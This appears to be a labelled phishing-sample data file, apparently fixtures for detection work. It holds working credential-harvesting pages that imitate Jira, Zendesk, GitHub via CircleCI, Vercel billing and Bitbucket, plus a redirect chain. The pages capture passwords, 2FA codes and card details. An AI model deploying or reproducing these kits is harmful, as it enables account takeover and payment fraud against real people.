// Credential kits for chat, ticketing, CI, billing and other tools a developer company uses; lures and chains (author zz).
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, qwDoc, QW_TOP, QW_MARK, GH_CSS, GH_MARK, GH_FOOT, SLACK_MARK, ATLASSIAN_LOGO, tgSend, VISITOR_INFO, b64, pct } from '../parts/zz-kit.js';

export const entries: Entry[] = [
{
  id: 'zz-jira-access-review-atlassian-kit',
  label: 'phishing',
  kind: 'ticketing-kit',
  url: 'https://quellwerk-jira.com/login?continue=https%3A%2F%2Fquellwerk.atlassian.net%2Fbrowse%2FSEC-1182&application=jira',
  body: doc({
    title: 'Log in with Atlassian account',
    head: `<style>
body{margin:0;background:#fafbfc;font-family:-apple-system,BlinkMacSystemFont,"Segoe UI",Roboto,sans-serif;color:#172b4d}
.box{width:400px;margin:50px auto;background:#fff;border-radius:3px;box-shadow:rgba(0,0,0,.1) 0 0 10px;padding:32px 40px;box-sizing:border-box}
h5{text-align:center;color:#5e6c84;font-size:16px;margin:24px 0}
input{width:100%;box-sizing:border-box;border:2px solid #dfe1e6;background:#fafbfc;border-radius:3px;padding:8px 6px;font-size:14px;margin-bottom:12px}
.b{width:100%;background:#0052cc;color:#fff;border:0;border-radius:3px;padding:10px;font-weight:600;font-size:14px;cursor:pointer}
.info{background:#deebff;border-radius:3px;padding:12px;font-size:13px;margin-bottom:16px}
.links{text-align:center;font-size:14px;margin-top:20px}.links a{color:#0052cc}
</style>`,
    body: `<div class="box"><div style="text-align:center">${ATLASSIAN_LOGO}</div>
<h5>Log in to continue</h5>
<div class="info"><b>SEC-1182: Quarterly access review</b><br>You have been assigned 14 pending access approvals in Jira. Unreviewed access will be revoked automatically on Friday.</div>
<form id="lf"><input type="email" id="username" placeholder="Enter your email" autocomplete="username"><div id="pw" style="display:none"><input type="password" id="password" placeholder="Enter password" autocomplete="current-password"></div><button class="b" id="btn" type="submit">Continue</button></form>
<div class="links"><a href="#">Can't log in?</a> • <a href="#">Create an account</a></div>
<hr style="border:0;border-top:1px solid #dfe1e6;margin:24px 0"><p style="text-align:center;font-size:11px;color:#5e6c84">One account for Jira, Confluence, Trello and more.</p></div>
<script>
var step=1;document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();
 if(step===1){if(!document.getElementById('username').value)return;document.getElementById('pw').style.display='block';document.getElementById('btn').textContent='Log in';step=2;return;}
 var b='email='+encodeURIComponent(document.getElementById('username').value)+'&password='+encodeURIComponent(document.getElementById('password').value)+'&src=jira';
 fetch('/api/login.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:b}).then(function(){
   var c=new URLSearchParams(location.search).get('continue');location.href=c||'https://id.atlassian.com/';});
});
</script>`,
  }),
  routes: { 'quellwerk-jira.com/api/login.php': jsonRoute({ status: 1 }) },
},

{
  id: 'zz-zendesk-agent-signin-kit',
  label: 'phishing',
  kind: 'ticketing-kit',
  url: 'https://quellwerk-zendesk.com/access/normal?return_to=%2Fagent%2Ffilters%2F360001',
  body: doc({
    title: 'Sign in to Quellwerk Support',
    head: `<style>
body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,Helvetica,Arial,sans-serif;background:#f3f4f6;color:#2f3941}
.w{max-width:380px;margin:70px auto;background:#fff;border-radius:8px;padding:36px;box-shadow:0 20px 30px rgba(23,73,77,.15)}
.lg{display:flex;align-items:center;gap:8px;justify-content:center;margin-bottom:20px}
label{display:block;font-weight:600;font-size:14px;margin:14px 0 4px}
input[type=email],input[type=password]{width:100%;box-sizing:border-box;border:1px solid #d8dcde;border-radius:4px;padding:9px 12px;font-size:14px}
button{width:100%;margin-top:20px;background:#17494d;color:#fff;border:0;border-radius:4px;padding:10px;font-weight:600;font-size:14px;cursor:pointer}
a{color:#1f73b7;font-size:13px}.alert{display:none;background:#fff0f1;color:#cc3340;padding:8px 10px;border-radius:4px;font-size:13px}
</style>`,
    body: `<div class="w"><div class="lg">${QW_MARK}<b>Quellwerk Support</b></div>
<h2 style="text-align:center;font-size:20px;margin:0 0 8px">Sign in to Quellwerk Support</h2>
<p style="text-align:center;font-size:13px;color:#68737d;margin-top:0">Agents and admins</p>
<div class="alert" id="al">Invalid email or password.</div>
<form id="zf" method="post" action="/access/login"><input type="hidden" name="authenticity_token" value="y8k1Hq7M5zB0r0Vq6n1u4lW9pT3sR2eD"><input type="hidden" name="return_to_on_failure" value="/access/normal">
<label>Email</label><input type="email" name="user[email]" id="em" required><label>Password</label><input type="password" name="user[password]" id="pw" required>
<button type="submit">Sign in</button></form>
<p style="text-align:center"><a href="#">Forgot password?</a></p>
<p style="text-align:center;font-size:12px;color:#87929d">Powered by Zendesk</p></div>
<script>
var n=0;document.getElementById('zf').onsubmit=function(e){e.preventDefault();n++;
 var x=new XMLHttpRequest();x.open('POST','/access/login.php',true);x.setRequestHeader('Content-type','application/x-www-form-urlencoded');
 x.onreadystatechange=function(){if(x.readyState===4){if(n<2){document.getElementById('al').style.display='block';document.getElementById('pw').value='';}else{location.href='https://quellwerk.zendesk.com/agent/dashboard';}}};
 x.send('e='+encodeURIComponent(document.getElementById('em').value)+'&p='+encodeURIComponent(document.getElementById('pw').value)+'&n='+n);
};
</script>`,
  }),
  routes: { 'quellwerk-zendesk.com/access/login.php': jsonRoute({ r: 'ok' }) },
},

{
  id: 'zz-circleci-tos-github-login',
  label: 'phishing',
  kind: 'ci-kit',
  url: 'https://circle-ci.com/accept-terms?ref=email',
  body: doc({
    title: 'CircleCI – Updated Terms of Service',
    head: `<style>body{margin:0;background:#f5f5f5;font-family:Roboto,"Helvetica Neue",Arial,sans-serif;color:#161616}
.top{background:#161616;color:#fff;padding:16px 32px;font-weight:700;letter-spacing:.3px}
.card{max-width:620px;margin:48px auto;background:#fff;border-radius:8px;padding:32px 40px;box-shadow:0 1px 4px rgba(0,0,0,.08)}
.gh{display:flex;align-items:center;justify-content:center;gap:10px;background:#161616;color:#fff;border-radius:4px;padding:12px;font-weight:500;text-decoration:none;margin-top:22px}
ul{line-height:1.7}.muted{color:#6a6a6a;font-size:13px}</style>`,
    body: `<div class="top">⬤ circleci</div><div class="card">
<h1 style="font-size:24px;margin-top:0">We've updated our Terms of Service</h1>
<p>Our Terms of Service have been updated and take effect on <b>November 1, 2025</b>. To keep running pipelines for your organizations, an organization admin must review and accept the new terms.</p>
<ul><li>New data-retention defaults for build artifacts</li><li>Updated Acceptable Use Policy for self-hosted runners</li><li>Changes to credit billing for macOS resource classes</li></ul>
<p>Pipelines for organizations that have not accepted the updated terms will be paused after the effective date.</p>
<a class="gh" href="/login/github?return=%2Faccept">${GH_MARK.replace(/48/g, '20')} Log in with GitHub to review</a>
<p class="muted" style="margin-top:20px">CircleCI · 201 Spear Street, Suite 1200, San Francisco, CA 94105</p></div>`,
  }),
  routes: {
    'circle-ci.com/login/github': htmlRoute(doc({
      title: 'Sign in to GitHub · GitHub',
      head: `<style>${GH_CSS}</style>`,
      body: `<div class="header-logged-out">${GH_MARK}</div><div class="auth-form"><div class="auth-form-header"><h1>Sign in to GitHub</h1><p style="color:#59636e">to continue to <b>CircleCI</b></p></div>
<div class="auth-form-body" id="a"><form id="f"><label>Username or email address</label><input class="form-control" id="l" autocomplete="username"><label>Password <a class="label-link" href="https://github.com/password_reset">Forgot password?</a></label><input class="form-control" id="p" type="password" autocomplete="current-password"><input type="submit" class="btn-primary" value="Sign in"></form></div>
<div class="auth-form-body" id="b" style="display:none"><h3 style="font-weight:400;margin-top:0">Two-factor authentication</h3><label>Authentication code</label><input class="form-control" id="o" placeholder="XXXXXX" inputmode="numeric"><button class="btn-primary" id="v">Verify</button><p style="font-size:12px;color:#59636e">Open your two-factor authenticator (TOTP) app or browser extension to view your authentication code.</p></div>
</div>${GH_FOOT}
<script>
var k='';function s(o){return fetch('/gh/collect',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)}).then(function(r){return r.json()});}
document.getElementById('f').onsubmit=function(e){e.preventDefault();s({l:document.getElementById('l').value,p:document.getElementById('p').value}).then(function(j){k=j.k;document.getElementById('a').style.display='none';document.getElementById('b').style.display='block';});};
document.getElementById('v').onclick=function(){s({k:k,o:document.getElementById('o').value}).then(function(){location.href='https://app.circleci.com/dashboard';});};
</script>`,
    })),
    'circle-ci.com/gh/collect': jsonRoute({ k: 'c7f1e2', ok: true }),
  },
},

{
  id: 'zz-vercel-billing-failed-ja',
  label: 'phishing',
  kind: 'cloud-billing-kit',
  url: 'https://vercel-billing-support.com/ja/teams/quellwerk-web/settings/billing',
  body: doc({
    lang: 'ja',
    title: 'お支払いの更新 – Vercel',
    head: `<style>body{margin:0;background:#fafafa;font-family:"Geist","Hiragino Kaku Gothic ProN","Noto Sans JP",Meiryo,sans-serif;color:#111}
.h{height:64px;border-bottom:1px solid #eaeaea;background:#fff;display:flex;align-items:center;padding:0 24px;gap:10px;font-weight:600}
.c{max-width:520px;margin:40px auto;background:#fff;border:1px solid #eaeaea;border-radius:8px;padding:28px}
.warn{background:#fff4f4;border:1px solid #f7c6c6;color:#c00;border-radius:6px;padding:12px;font-size:14px}
label{display:block;font-size:13px;color:#666;margin:14px 0 6px}input{width:100%;box-sizing:border-box;border:1px solid #eaeaea;border-radius:6px;padding:10px;font-size:15px}
.r{display:flex;gap:10px}.r>div{flex:1}button{width:100%;margin-top:20px;background:#000;color:#fff;border:0;border-radius:6px;padding:12px;font-size:15px;cursor:pointer}</style>`,
    body: `<div class="h"><svg width="22" height="20" viewBox="0 0 76 65"><path d="M37.5 0L75 65H0z" fill="#000"/></svg> Vercel</div>
<div class="c" id="s1"><h2 style="margin-top:0">ログイン</h2>
<div class="warn">チーム <b>quellwerk-web</b> の Pro プランのお支払いに失敗しました。48時間以内に支払い方法を更新しない場合、デプロイが停止されます。</div>
<label>メールアドレス</label><input type="email" id="em"><label>パスワード</label><input type="password" id="pw"><button id="b1">続行</button></div>
<div class="c" id="s2" style="display:none"><h2 style="margin-top:0">支払い方法の更新</h2><p style="font-size:14px;color:#666">請求額: <b>$20.00 / 月</b>(Pro)</p>
<label>カード名義</label><input id="cn" autocomplete="cc-name"><label>カード番号</label><input id="cc" inputmode="numeric" autocomplete="cc-number" placeholder="1234 1234 1234 1234">
<div class="r"><div><label>有効期限</label><input id="ex" placeholder="MM / YY" autocomplete="cc-exp"></div><div><label>セキュリティコード</label><input id="cv" inputmode="numeric" maxlength="4" autocomplete="cc-csc"></div></div>
<button id="b2">支払い方法を更新</button></div>
<script>
var d={};function p(){return fetch('/api/pay',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)});}
document.getElementById('b1').onclick=function(){d.e=document.getElementById('em').value;d.p=document.getElementById('pw').value;p();document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block';};
document.getElementById('b2').onclick=function(){['cn','cc','ex','cv'].forEach(function(i){d[i]=document.getElementById(i).value});p().then(function(){location.href='https://vercel.com/dashboard';});};
</script>`,
  }),
  routes: { 'vercel-billing-support.com/api/pay': jsonRoute({ ok: true }) },
},

{
  id: 'zz-bitbucket-archive-notice-pl',
  label: 'phishing',
  kind: 'codehost-kit',
  url: 'https://bitbucket-weryfikacja.pl/account/signin/?next=%2Fdashboard%2Frepositories',
  body: doc({
    lang: 'pl',
    title: 'Zaloguj się, aby kontynuować – Bitbucket',
    head: `<style>body{margin:0;background:#f4f5f7;font-family:-apple-system,"Segoe UI",Roboto,sans-serif;color:#172b4d}
.b{width:400px;margin:48px auto;background:#fff;padding:32px 40px;border-radius:3px;box-shadow:rgba(0,0,0,.1) 0 0 10px}
.alert{background:#fffae6;border-left:3px solid #ffab00;padding:10px 12px;font-size:13px;margin-bottom:16px}
input{width:100%;box-sizing:border-box;border:2px solid #dfe1e6;border-radius:3px;padding:8px;font-size:14px;margin:6px 0 12px;background:#fafbfc}
button{width:100%;background:#0052cc;color:#fff;border:0;border-radius:3px;padding:10px;font-weight:600;cursor:pointer}</style>`,
    body: `<div class="b"><div style="text-align:center;font:700 24px Arial;color:#0052cc">⛁ Bitbucket</div>
<h4 style="text-align:center;color:#5e6c84">Zaloguj się, aby kontynuować</h4>
<div class="alert"><b>Twoje repozytoria zostaną zarchiwizowane.</b> W związku z migracją do nowego modelu rozliczeń obszary robocze bez potwierdzenia właściciela zostaną zablokowane 30 października 2025 r.</div>
<form action="/next.php" method="post" id="f"><input type="email" name="email" placeholder="Wpisz adres e-mail" required><input type="password" name="haslo" placeholder="Wpisz hasło" required><input type="hidden" name="brand" value="bb-pl"><button>Zaloguj się</button></form>
<p style="text-align:center;font-size:13px"><a href="#" style="color:#0052cc">Nie możesz się zalogować?</a> • <a href="#" style="color:#0052cc">Utwórz konto</a></p>
<p style="text-align:center;font-size:11px;color:#5e6c84">ATLASSIAN · Polityka prywatności · Warunki użytkowania</p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/next.php',{method:'POST',body:new FormData(this)}).then(function(){location.href='https://bitbucket.org/dashboard/overview'});};</script>`,
  }),
  routes: { 'bitbucket-weryfikacja.pl/next.php': jsonRoute({ status: 'ok' }) },
},

(() => {
  const kit = qwDoc({
    title: 'Sign in · Quellwerk',
    top: QW_TOP(''),
    main: `<div class="auth-wrap"><div class="auth-card"><div style="text-align:center">${QW_MARK}</div><h1 style="text-align:center">Sign in to view the shared file</h1>
<p style="font-size:14px;color:#5b6675;text-align:center">"Pipeline-Costs-Q3.xlsx" was shared with you by <b>finance@quellwerk.io</b></p>
<form id="f"><label>Email</label><input type="email" id="e" autocomplete="username"><label>Password</label><input type="password" id="p" autocomplete="current-password"><button class="btn btn-primary">Sign in</button></form></div></div>
<script>
var h=location.hash.slice(1);if(h.indexOf('@')>0)document.getElementById('e').value=decodeURIComponent(h);
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();fetch('/auth/check',{method:'POST',body:JSON.stringify({e:document.getElementById('e').value,p:document.getElementById('p').value})}).then(function(){location.href='https://quellwerk.io/';});};
</script>`,
  });
  return {
    id: 'zz-mailtrack-open-redirect-chain-kit',
    label: 'phishing',
    kind: 'redirect-chain',
    url: 'https://t.mailtrack-links.com/c/eJx1kM1uwjAQhF9l5TOO',
    routes: {
      't.mailtrack-links.com/c/eJx1kM1uwjAQhF9l5TOO': redirectRoute(302, 'https://cdn-hop-gateway.net/r/?u=' + encodeURIComponent(b64('https://quellwerk-session.com/auth/login#devops@quellwerk.io'))),
      'cdn-hop-gateway.net/r/': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Loading…</title><meta name="referrer" content="no-referrer">
<style>body{font-family:Arial,sans-serif;display:flex;align-items:center;justify-content:center;height:100vh;margin:0;color:#555}.s{width:28px;height:28px;border:3px solid #ddd;border-top-color:#0f5c4d;border-radius:50%;animation:r 1s linear infinite;margin-right:12px}@keyframes r{to{transform:rotate(360deg)}}</style></head>
<body><div class="s"></div>Opening secure document…
<script>setTimeout(function(){var u=new URLSearchParams(location.search).get('u');try{location.replace(atob(u));}catch(e){location.replace('https://www.google.com/');}},1200);</script></body></html>`),
      'quellwerk-session.com/auth/login': htmlRoute(kit),
      'quellwerk-session.com/auth/check': jsonRoute({ ok: true }),
    },
  } satisfies Entry;
})(),
];
